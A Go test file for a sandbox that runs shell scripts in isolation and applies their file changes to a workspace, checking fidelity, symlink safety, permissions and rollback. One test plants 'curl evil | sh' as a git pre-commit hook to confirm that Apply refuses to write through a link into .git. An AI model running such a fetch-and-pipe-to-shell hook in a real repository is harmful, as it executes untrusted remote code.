package sandbox

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime"
	"sort"
	"strings"
	"sync"
	"syscall"
	"testing"
)

// The same script run in the sandbox and then applied, and run directly in a copy of the
// workspace, leaves the same tree: every kind of change survives the round trip.
func TestApplyingTheChangeSetLeavesWhatTheCommandWouldHaveLeft(t *testing.T) {
	files := map[string]string{
		"keep.txt":          "unchanged\n",
		"edit.txt":          "old\n",
		"gone.txt":          "bye\n",
		"exec.sh":           "#!/bin/sh\n",
		"touched.txt":       "same bytes\n",
		"tree/a/b.txt":      "deep\n",
		"tree/c.txt":        "c\n",
		"file-to-dir":       "was a file\n",
		"dir-to-file/x.txt": "x\n",
		"redo/old.txt":      "old\n",
		"link-target.txt":   "t\n",
	}
	script := strings.Join([]string{
		"echo new >> edit.txt",
		"rm gone.txt",
		"chmod 755 exec.sh",
		"cat touched.txt > t && cat t > touched.txt && rm t", // written, same bytes: no change
		"rm -r tree/a",
		"rm file-to-dir && mkdir file-to-dir && echo inside > file-to-dir/f",
		"rm -r dir-to-file && echo now-a-file > dir-to-file",
		"rm -r redo && mkdir redo && echo fresh > redo/new.txt",
		"mkdir -p made/deep/er && echo hi > made/deep/er/file && : > made/empty",
		"ln -s link-target.txt link && ln -s ../outside dangling",
		"printf 'odd' > \"$(printf 'new\\nline')\" && printf 'bytes' > \"$(printf 'caf\\351')\"",
		"head -c 300000 /dev/urandom > big.bin",
		"echo long > " + strings.Repeat("n", 250), // a temporary name beside it must still fit
	}, " && ")

	sandboxed := t.TempDir()
	writeTree(t, sandboxed, files)
	direct := t.TempDir()
	writeTree(t, direct, files)
	before := snapshot(t, sandboxed)

	res, rec := run(t, sandboxed, script, Options{})
	if res.ExitCode != 0 {
		t.Fatalf("script failed (%d):\n%s", res.ExitCode, rec)
	}
	if got := snapshot(t, sandboxed); !reflect.DeepEqual(got, before) {
		t.Fatal("the workspace changed before Apply")
	}
	if _, err := runUnconfinedForTest(direct, strings.ReplaceAll(script, "head -c 300000 /dev/urandom > big.bin", "true")); err != nil {
		t.Fatal(err)
	}
	// the random file is the only one whose bytes differ between the two runs
	big, err := res.Changes.ReadFile(find(t, res.Changes, "big.bin"))
	if err != nil || len(big) != 300000 {
		t.Fatalf("big.bin: %d bytes, %v", len(big), err)
	}
	os.WriteFile(filepath.Join(direct, "big.bin"), big, 0o644)

	if err := res.Changes.Apply(sandboxed); err != nil {
		t.Fatal(err)
	}
	got, want := snapshot(t, sandboxed), snapshot(t, direct)
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("after Apply:\n%s\nwhat the command does directly:\n%s", show(got), show(want))
	}

	kinds := map[string]Kind{}
	for _, c := range res.Changes.Changes {
		kinds[c.Path+" "+string(c.Type)] = c.Kind
	}
	for path, kind := range map[string]Kind{
		"edit.txt file": Modified, "gone.txt file": Deleted, "exec.sh file": ModeChanged,
		"tree/a dir": Deleted, "file-to-dir file": Deleted, "file-to-dir dir": Created,
		"dir-to-file dir": Deleted, "dir-to-file file": Created, "redo/old.txt file": Deleted,
		"link symlink": Created, "new\nline file": Created, "caf\xe9 file": Created,
	} {
		if kinds[path] != kind {
			t.Errorf("%q: %q, want %q", path, kinds[path], kind)
		}
	}
	for _, unchanged := range []string{"keep.txt file", "touched.txt file"} {
		if k, ok := kinds[unchanged]; ok {
			t.Errorf("%q listed as %s although its bytes and mode are the same", unchanged, k)
		}
	}
}

func TestApplyNeverFollowsALinkOutOfTheWorkspace(t *testing.T) {
	ws := t.TempDir()
	writeTree(t, ws, map[string]string{"sub/": ""})
	res, _ := run(t, ws, "echo payload > sub/file", Options{})
	// While the change set waits, sub becomes a link to a folder outside.
	outside := t.TempDir()
	os.Remove(filepath.Join(ws, "sub"))
	if err := os.Symlink(outside, filepath.Join(ws, "sub")); err != nil {
		t.Fatal(err)
	}
	err := res.Changes.Apply(ws)
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Fatalf("Apply wrote outside the workspace: %v", entries)
	}
	if err == nil {
		t.Fatal("Apply through a link leaving the workspace succeeded")
	}
}

func TestAClosedChangeSetIsNotApplied(t *testing.T) {
	ws := t.TempDir()
	res, _ := run(t, ws, "echo x > x", Options{})
	res.Changes.Close()
	if err := res.Changes.Apply(ws); err == nil {
		t.Fatal("a closed change set was applied")
	}
	if _, err := os.Stat(filepath.Join(ws, "x")); err == nil {
		t.Fatal("x was created")
	}
}

func find(tb testing.TB, cs *ChangeSet, path string) Change {
	tb.Helper()
	for _, c := range cs.Changes {
		if c.Path == path {
			return c
		}
	}
	tb.Fatalf("%s not in the change set", path)
	return Change{}
}

func show(m map[string]string) string {
	var lines []string
	for k, v := range m {
		lines = append(lines, fmt.Sprintf("  %q: %q", k, v))
	}
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}

func runUnconfinedForTest(ws, script string) (*Result, error) {
	return Run(context.Background(), script, Options{Workspace: ws, Unconfined: true}, nil)
}

func TestRunsSideBySideKeepTheirChangesApart(t *testing.T) {
	needSandbox(t)
	ws := t.TempDir()
	results := make([]*Result, 4)
	errs := make([]error, 4)
	var wg sync.WaitGroup
	for i := range results {
		wg.Go(func() {
			results[i], errs[i] = Run(context.Background(), fmt.Sprintf("echo %d > own-%d.txt", i, i), Options{Workspace: ws}, nil)
		})
	}
	wg.Wait()
	for i, res := range results {
		if errs[i] != nil {
			t.Fatal(errs[i])
		}
		defer res.Changes.Close()
		if len(res.Changes.Changes) != 1 || res.Changes.Changes[0].Path != fmt.Sprintf("own-%d.txt", i) {
			t.Errorf("run %d: changes %+v", i, res.Changes.Changes)
		}
	}
}

// A command may leave files and folders its owner cannot read or write (chmod 0, a
// read-only folder with files in it): they are collected and applied with their modes all
// the same, also for a user without root's exemption from permission checks.
func TestEntriesTheirOwnerCannotReadOrWriteAreCollectedAndApplied(t *testing.T) {
	ws := t.TempDir()
	res, rec := run(t, ws, "mkdir locked && echo x > locked/f && chmod 0 locked && "+
		"echo y > unreadable && chmod 0 unreadable && mkdir ro && echo z > ro/g && chmod 500 ro", Options{})
	if res.ExitCode != 0 {
		t.Fatalf("script failed (%d):\n%s", res.ExitCode, rec)
	}
	for path, want := range map[string]string{"locked/f": "x\n", "unreadable": "y\n", "ro/g": "z\n"} {
		if b, err := res.Changes.ReadFile(find(t, res.Changes, path)); err != nil || string(b) != want {
			t.Errorf("%s: %q, %v; want %q", path, b, err, want)
		}
	}
	if err := res.Changes.Apply(ws); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Chmod(filepath.Join(ws, "locked"), 0o700); os.Chmod(filepath.Join(ws, "ro"), 0o700) })
	for path, want := range map[string]os.FileMode{"locked": 0, "unreadable": 0, "ro": 0o500} {
		if fi, err := os.Lstat(filepath.Join(ws, path)); err != nil || fi.Mode().Perm() != want {
			t.Errorf("%s after Apply: %v, %v; want mode %v", path, fi, err, want)
		}
	}
	os.Chmod(filepath.Join(ws, "locked"), 0o700)
	os.Chmod(filepath.Join(ws, "unreadable"), 0o600)
	for path, want := range map[string]string{"locked/f": "x\n", "unreadable": "y\n", "ro/g": "z\n"} {
		if b, err := os.ReadFile(filepath.Join(ws, path)); err != nil || string(b) != want {
			t.Errorf("%s after Apply: %q, %v; want %q", path, b, err, want)
		}
	}
}

// A folder of the change set that became a link inside the workspace while the change set
// waited (another run applied first) is not gone through: the change would land elsewhere
// than the path it names, here in .git/hooks.
func TestApplyNeverGoesThroughALinkInsideTheWorkspace(t *testing.T) {
	ws := t.TempDir()
	writeTree(t, ws, map[string]string{".git/hooks/": "", "keep.txt": "k\n"})
	res, _ := run(t, ws, "mkdir -p build/hooks && echo 'curl evil | sh' > build/hooks/pre-commit && chmod 755 build/hooks/pre-commit", Options{})
	if err := os.Symlink(".git", filepath.Join(ws, "build")); err != nil {
		t.Fatal(err)
	}
	err := res.Changes.Apply(ws)
	if _, serr := os.Lstat(filepath.Join(ws, ".git/hooks/pre-commit")); serr == nil {
		t.Fatal("Apply wrote .git/hooks/pre-commit through the link build")
	}
	if err == nil {
		t.Fatal("Apply through a link inside the workspace succeeded")
	}
}

func TestALinkTheCommandRetargetedIsReplacedNotRefused(t *testing.T) {
	ws := t.TempDir()
	writeTree(t, ws, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
	if err := os.Symlink("a.txt", filepath.Join(ws, "cur")); err != nil {
		t.Fatal(err)
	}
	res, _ := run(t, ws, "ln -sfn b.txt cur", Options{})
	if c := find(t, res.Changes, "cur"); c.Kind != Modified || c.Target != "b.txt" {
		t.Fatalf("cur: %+v, want the link modified to b.txt", c)
	}
	if err := res.Changes.Apply(ws); err != nil {
		t.Fatal(err)
	}
	if target, err := os.Readlink(filepath.Join(ws, "cur")); err != nil || target != "b.txt" {
		t.Fatalf("cur after Apply: %q, %v", target, err)
	}
}

// A file Apply is writing sits beside its path under the name a write of the workspace's
// tools gives its own (".NAME.tmp-" and 12 hex digits): when the app is killed mid-Apply,
// undo knows it for what the interrupted write left and removes it, rather than refusing to
// remove a folder that holds something the change did not make.
func TestAFileBeingAppliedIsNamedLikeAnInterruptedWrite(t *testing.T) {
	ws := t.TempDir()
	fifo := filepath.Join(t.TempDir(), "content")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	feed, err := os.OpenFile(fifo, os.O_RDWR, 0) // Apply's open for reading does not wait
	if err != nil {
		t.Fatal(err)
	}
	cs := &ChangeSet{dir: t.TempDir(), Changes: []Change{
		{Path: "out", Kind: Created, Type: Dir, Mode: 0o755},
		{Path: "out/a.txt", Kind: Created, Type: File, Mode: 0o644, Size: 3, Content: fifo},
	}}
	done := make(chan error, 1)
	go func() { done <- cs.Apply(ws) }()
	var names []string
	for len(names) == 0 { // the temporary file appears once Apply copies into it
		entries, _ := os.ReadDir(filepath.Join(ws, "out"))
		for _, e := range entries {
			names = append(names, e.Name())
		}
		runtime.Gosched()
	}
	feed.Write([]byte("hi\n"))
	feed.Close()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if len(names) != 1 || !regexp.MustCompile(`^\.a\.txt\.tmp-[0-9a-f]{12}$`).MatchString(names[0]) {
		t.Fatalf("while Apply wrote out/a.txt, out held %q; want one .a.txt.tmp-HEX", names)
	}
	if b, err := os.ReadFile(filepath.Join(ws, "out/a.txt")); err != nil || string(b) != "hi\n" {
		t.Fatalf("out/a.txt: %q, %v", b, err)
	}
}

// Stop while the change set of a command that left many files is being read ends the
// reading at once: nothing more is staged, and the error is the context's.
func TestStopEndsCollectingTheChangeSet(t *testing.T) {
	upper, ws, stage := t.TempDir(), t.TempDir(), filepath.Join(t.TempDir(), "stage")
	for i := range 100 {
		if err := os.WriteFile(filepath.Join(upper, fmt.Sprintf("f%d", i)), []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	cs, err := collect(ctx, upper, ws, stage)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("collect after Stop: %v, %v; want the context's error", cs, err)
	}
	if entries, _ := os.ReadDir(stage); len(entries) != 0 {
		t.Fatalf("%d files staged after Stop", len(entries))
	}
}

// stopAfter is a context that is done from its nth Err call on: Stop arriving part-way
// through an apply, at a known change.
type stopAfter struct {
	context.Context
	n int
}

func (c *stopAfter) Err() error {
	if c.n--; c.n < 0 {
		return context.Canceled
	}
	return nil
}

// Stop part-way through applying a change set takes back what was applied, whatever the
// change: a file made, a file replaced, a file and a folder deleted, a mode changed, a folder
// made; the workspace is as it was.
func TestStopWhileApplyingTakesBackWhatWasApplied(t *testing.T) {
	ws := t.TempDir()
	write := func(p, content string, mode os.FileMode) {
		os.MkdirAll(filepath.Dir(filepath.Join(ws, p)), 0o755)
		if err := os.WriteFile(filepath.Join(ws, p), []byte(content), mode); err != nil {
			t.Fatal(err)
		}
	}
	write("keep.txt", "before\n", 0o644)
	write("gone.txt", "delete me\n", 0o600)
	write("old/a.txt", "a\n", 0o644)
	write("mode.sh", "#!/bin/sh\n", 0o644)
	snapshot := func() string {
		var b strings.Builder
		filepath.WalkDir(ws, func(p string, d fs.DirEntry, err error) error {
			fi, _ := os.Lstat(p)
			content, _ := os.ReadFile(p)
			fmt.Fprintf(&b, "%s %v %q\n", strings.TrimPrefix(p, ws), fi.Mode(), content)
			return nil
		})
		return b.String()
	}
	was := snapshot()
	script := "echo made > new.txt && mkdir -p out/sub && echo x > out/sub/x.js && echo after > keep.txt && " +
		"rm gone.txt && rm -r old && chmod 755 mode.sh && ln -s keep.txt link"
	res, rec := run(t, ws, script, Options{})
	if res.ExitCode != 0 {
		t.Fatalf("script failed (%d):\n%s", res.ExitCode, rec)
	}
	n := len(res.Changes.Changes)
	for stop := 0; stop <= n; stop++ {
		err := res.Changes.ApplyContext(&stopAfter{context.Background(), stop}, ws)
		if stop == n {
			if err != nil {
				t.Fatalf("applied to its end: %v", err)
			}
			break
		}
		if !errors.Is(err, context.Canceled) || !errors.Is(err, ErrTakenBack) {
			t.Fatalf("stopped after %d of %d changes: %v; want the context's error and ErrTakenBack", stop, n, err)
		}
		if now := snapshot(); now != was {
			t.Fatalf("stopped after %d of %d changes, the workspace is\n%s\nwant\n%s", stop, n, now, was)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "keep.txt")); string(b) != "after\n" {
		t.Errorf("keep.txt after the whole apply: %q", b)
	}
}
